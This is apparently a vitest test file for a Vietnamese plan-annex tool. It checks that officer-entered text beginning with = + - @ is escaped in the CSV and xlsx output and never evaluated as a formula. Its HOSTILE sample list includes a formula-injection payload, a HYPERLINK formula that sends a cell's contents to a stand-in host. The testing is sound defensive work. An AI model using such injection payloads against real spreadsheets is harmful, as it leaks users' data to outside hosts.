// Formula injection: text from officers that starts with = + - @ must never run as a formula in a
// file we write. Checked with exceljs and with an independent reader (SheetJS).
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import ExcelJS from 'exceljs';
import * as XLSX from 'xlsx';
import { AnnexSchema, type Annex } from '../../engine/model.js';
import { escapeCellText, looksLikeFormula } from '../../io/escape.js';
import { annexToCsv, gridToCsv } from '../../io/csv.js';
import { writeAnnexXlsx, writeGridsXlsx } from '../../io/xlsx-write.js';
import { readFileToGrids } from '../../io/read.js';

const loc = { sheet: 'Phụ lục', row: 1 };
const refs = (t: string) => [{ text: t, kind: 'unknown' as const }];

function annexWith(texts: string[]): Annex {
  return AnnexSchema.parse({
    meta: {
      planYear: 2025,
      docType: 'KH',
      docNumber: '12/KH-UBND',
      docDate: '2025-01-10',
      issuer: 'UBND tỉnh Khánh Hòa',
    },
    sections: [
      {
        numeral: 'I',
        title: 'Cải cách thể chế',
        area: 'institution',
        source: loc,
        tasks: texts.map((t, i) => ({
          number: String(i + 1),
          task: t,
          products: [{ text: t, source: loc }],
          lead: refs(t),
          support: refs('Các sở, ngành'),
          timeline: { kind: 'unknown', text: t },
          source: loc,
          rows: [i + 2],
        })),
      },
    ],
  });
}

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
  '+84 912 345 678',
  '-2+3',
  '@SUM(A1:A9)',
  '- Sở Nội vụ chủ trì',
];

describe('formula escaping', () => {
  it('escapeCellText: one rule for CSV, a narrower one for typed xlsx cells', () => {
    for (const t of ['=1+1', '+1', '-1', '@A1', '\tx', '\rx']) {
      expect(looksLikeFormula(t)).toBe(true);
      expect(escapeCellText(t, 'csv')).toBe(`'${t}`);
    }
    for (const t of ['Sở Nội vụ', '1.1. Báo cáo', '', ' =1', 'Quý II/2025']) expect(escapeCellText(t, 'csv')).toBe(t);
    expect(escapeCellText('=1+1', 'xlsx')).toBe("'=1+1");
    expect(escapeCellText('@A1', 'xlsx')).toBe("'@A1");
    expect(escapeCellText('+84', 'xlsx')).toBe("'+84");
    // A "- " bullet in a Text-format string cell is never evaluated; keep it as the officer wrote it.
    expect(escapeCellText('- Sở Nội vụ', 'xlsx')).toBe('- Sở Nội vụ');
  });

  it('annexToCsv escapes every user cell', () => {
    const csv = annexToCsv(annexWith(HOSTILE));
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    const cells = rows.slice(2).flat();
    for (const t of HOSTILE) {
      expect(cells).toContain(`'${t}`);
      expect(cells).not.toContain(t);
    }
    expect(cells.every((c) => !looksLikeFormula(c))).toBe(true);
  });

  it('gridToCsv escapes by default', () => {
    const csv = gridToCsv({
      sheet: 's',
      kind: 'sheet',
      rows: [{ index: 1, cells: HOSTILE.map((text) => ({ text })) }],
    });
    expect(Papa.parse<string[]>(csv).data[0]).toEqual(HOSTILE.map((t) => `'${t}`));
  });

  it('writeAnnexXlsx writes user text as Text-format strings, never formulas', async () => {
    const bytes = await writeAnnexXlsx(annexWith(HOSTILE));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    let formulas = 0;
    const values: string[] = [];
    ws.eachRow((row, rowNumber) =>
      row.eachCell((c) => {
        if (c.type === ExcelJS.ValueType.Formula) formulas++;
        if (rowNumber > 5) {
          expect(c.type).toBe(ExcelJS.ValueType.String);
          expect(c.numFmt).toBe('@');
          values.push(String(c.value));
        }
      }),
    );
    expect(formulas).toBe(0);
    expect(values).toContain(`'${HOSTILE[0]}`);
    expect(values).toContain(`'${HOSTILE[3]}`);
    expect(values).toContain('- Sở Nội vụ chủ trì');
    // SheetJS, an independent reader, finds no formula anywhere either.
    const sheet = XLSX.read(bytes, { type: 'array', cellFormula: true }).Sheets[ws.name];
    expect(Object.entries(sheet).filter(([k, v]) => !k.startsWith('!') && (v as XLSX.CellObject).f)).toEqual([]);
  });

  it("writeGridsXlsx keeps officers' formulas as formulas and text that looks like one as text", async () => {
    const bytes = await writeGridsXlsx([
      {
        sheet: 'Phụ lục',
        kind: 'sheet',
        rows: [{ index: 1, cells: [{ text: '=1+1' }, { text: '3', formula: 'ROW()+2' }, { text: '@A1' }] }],
      },
    ]);
    const sheet = XLSX.read(bytes, { type: 'array', cellFormula: true }).Sheets['Phụ lục'];
    expect(sheet.A1.t).toBe('s');
    expect(sheet.A1.f).toBeUndefined();
    expect(sheet.A1.v).toBe('=1+1');
    expect(sheet.B1.f).toBe('ROW()+2');
    expect(sheet.C1.f).toBeUndefined();
    const [grid] = await readFileToGrids(bytes, 'x.xlsx');
    expect(grid.rows[0].cells).toEqual([{ text: '=1+1' }, { text: '3', formula: 'ROW()+2' }, { text: '@A1' }]);
  });

  it('writeGridsXlsx keeps control characters and sheet names Excel would refuse', async () => {
    const text = 'Trang 1\fTrang 2 _x0041_';
    const bytes = await writeGridsXlsx([
      {
        sheet: 'Kế hoạch [2025]: phụ lục/nhiệm vụ chi tiết rất dài',
        kind: 'text',
        rows: [{ index: 1, cells: [{ text }] }],
      },
      {
        sheet: 'Kế hoạch [2025]: phụ lục/nhiệm vụ chi tiết rất dài',
        kind: 'text',
        rows: [{ index: 1, cells: [{ text: 'b' }] }],
      },
    ]);
    const grids = await readFileToGrids(bytes, 'x.xlsx');
    expect(grids[0].rows[0].cells[0].text).toBe(text);
    expect(grids.map((g) => g.sheet)).toEqual(['Kế hoạch _2025__ phụ lục_nhiệm', 'Kế hoạch _2025__ phụ lục_nh (2)']);
  });
});
